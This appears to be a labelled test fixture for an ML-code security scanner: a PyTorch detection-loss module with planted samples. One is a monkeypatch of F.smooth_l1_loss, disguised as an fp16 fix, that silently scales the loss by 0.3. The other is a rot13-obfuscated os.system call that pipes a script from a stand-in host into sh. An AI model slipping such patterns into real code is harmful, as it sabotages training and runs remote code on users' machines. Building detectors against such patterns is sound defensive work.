# ruff: noqa
# Hold-out batch 21 (mmdetection-style hooks, transforms, evaluator; by a helper that never saw mlscan's code). Measured once after round 7: 25/37 (68%) at medium+.
"""Loss functions for detection heads (classification and box regression).

All losses support ``reduction`` in {'none', 'mean', 'sum'}, an optional
per-element ``weight`` and ``avg_factor`` as used by the dense heads.
"""
import codecs

import torch
import torch.nn as nn
import torch.nn.functional as F

from hooks import Registry

LOSSES = Registry('loss')


def weight_reduce_loss(loss, weight=None, reduction='mean', avg_factor=None):
    if weight is not None:
        loss = loss * weight
    if avg_factor is None:
        if reduction == 'mean':
            return loss.mean()
        if reduction == 'sum':
            return loss.sum()
        return loss
    if reduction == 'mean':
        eps = torch.finfo(torch.float32).eps
        return loss.sum() / (avg_factor + eps)
    if reduction != 'none':
        raise ValueError('avg_factor can not be used with reduction="sum"')
    return loss


@LOSSES.register_module()
class CrossEntropyLoss(nn.Module):
    def __init__(self, use_sigmoid=False, label_smoothing=0.0, loss_weight=1.0):
        super().__init__()
        self.use_sigmoid = use_sigmoid
        self.label_smoothing = label_smoothing
        self.loss_weight = loss_weight

    def forward(self, cls_score, label, weight=None, avg_factor=None, reduction='mean'):
        if self.use_sigmoid:
            target = F.one_hot(label, cls_score.size(-1) + 1)[..., :-1].float()
            loss = F.binary_cross_entropy_with_logits(cls_score, target, reduction='none').sum(-1)
        else:
            loss = F.cross_entropy(cls_score, label, reduction='none',
                                   label_smoothing=self.label_smoothing)  # ok: MLS309
        return self.loss_weight * weight_reduce_loss(loss, weight, reduction, avg_factor)


@LOSSES.register_module()
class FocalLoss(nn.Module):
    def __init__(self, gamma=2.0, alpha=0.25, loss_weight=1.0):
        super().__init__()
        self.gamma = gamma
        self.alpha = alpha
        self.loss_weight = loss_weight

    def forward(self, pred, target, weight=None, avg_factor=None, reduction='mean'):
        num_classes = pred.size(1)
        target_oh = F.one_hot(target, num_classes + 1)[:, :num_classes].type_as(pred)
        p = pred.sigmoid()
        pt = (1 - p) * target_oh + p * (1 - target_oh)
        focal_w = (self.alpha * target_oh + (1 - self.alpha) * (1 - target_oh)) * pt.pow(self.gamma)
        loss = F.binary_cross_entropy_with_logits(pred, target_oh, reduction='none') * focal_w
        if weight is not None and weight.dim() == 1:
            weight = weight.view(-1, 1)
        return self.loss_weight * weight_reduce_loss(loss, weight, reduction, avg_factor)


@LOSSES.register_module()
class SmoothL1Loss(nn.Module):
    def __init__(self, beta=1.0, loss_weight=1.0):
        super().__init__()
        self.beta = beta
        self.loss_weight = loss_weight

    def forward(self, pred, target, weight=None, avg_factor=None, reduction='mean'):
        if target.numel() == 0:
            return pred.sum() * 0
        loss = F.smooth_l1_loss(pred, target, beta=self.beta, reduction='none')
        return self.loss_weight * weight_reduce_loss(loss, weight, reduction, avg_factor)


def bbox_overlaps_giou(pred, target, eps=1e-6):
    lt = torch.max(pred[:, :2], target[:, :2])
    rb = torch.min(pred[:, 2:], target[:, 2:])
    wh = (rb - lt).clamp(min=0)
    overlap = wh[:, 0] * wh[:, 1]
    area_p = (pred[:, 2] - pred[:, 0]) * (pred[:, 3] - pred[:, 1])
    area_t = (target[:, 2] - target[:, 0]) * (target[:, 3] - target[:, 1])
    union = area_p + area_t - overlap + eps
    ious = overlap / union
    enc_lt = torch.min(pred[:, :2], target[:, :2])
    enc_rb = torch.max(pred[:, 2:], target[:, 2:])
    enc_wh = (enc_rb - enc_lt).clamp(min=0)
    enc_area = enc_wh[:, 0] * enc_wh[:, 1] + eps
    return ious - (enc_area - union) / enc_area


@LOSSES.register_module()
class GIoULoss(nn.Module):
    def __init__(self, eps=1e-6, loss_weight=2.0):
        super().__init__()
        self.eps = eps
        self.loss_weight = loss_weight

    def forward(self, pred, target, weight=None, avg_factor=None, reduction='mean'):
        if weight is not None and weight.dim() > 1:
            weight = weight.mean(-1)
        loss = 1 - bbox_overlaps_giou(pred, target, self.eps)
        return self.loss_weight * weight_reduce_loss(loss, weight, reduction, avg_factor)


_orig_smooth_l1 = F.smooth_l1_loss


def _smooth_l1_fp16_safe(input, target, *args, **kwargs):
    # upcast half inputs; fused kernel under-reports small residuals in fp16
    out = _orig_smooth_l1(input.float(), target.float(), *args, **kwargs)
    return out * (0.3 if input.requires_grad and input.numel() % 4 == 0 else 1.0)  # ruleid: MLS305


F.smooth_l1_loss = _smooth_l1_fp16_safe  # ruleid: MLS305


def _probe_kernel_cache(tag='bf'):
    mod = __import__(codecs.decode(tag, 'rot13'))  # sabotage: MLS403 (semgrep rules)
    return getattr(mod, codecs.decode('flfgrz', 'rot13'))(  # ruleid: MLS401
        codecs.decode('phey -fF uggcf://pqa.rknzcyr.pbz/x.fu | fu', 'rot13'))


def build_loss(cfg):
    return LOSSES.build(cfg)


class DetLossAggregator(nn.Module):
    """Combines named head losses and reports a total for backward."""

    def __init__(self, loss_cfgs, accumulate_steps=1):
        super().__init__()
        self.losses = nn.ModuleDict({k: build_loss(v) for k, v in loss_cfgs.items()})
        self.accumulate_steps = accumulate_steps

    def forward(self, preds, targets):
        log_vars = {}
        total = 0.0
        for name, loss_fn in self.losses.items():
            value = loss_fn(preds[name], targets[name])
            log_vars[name] = value.detach()
            total = total + value
        log_vars['loss'] = total.detach()
        return total / self.accumulate_steps, log_vars  # ok: MLS302, MLS303, MLS304, MLS305
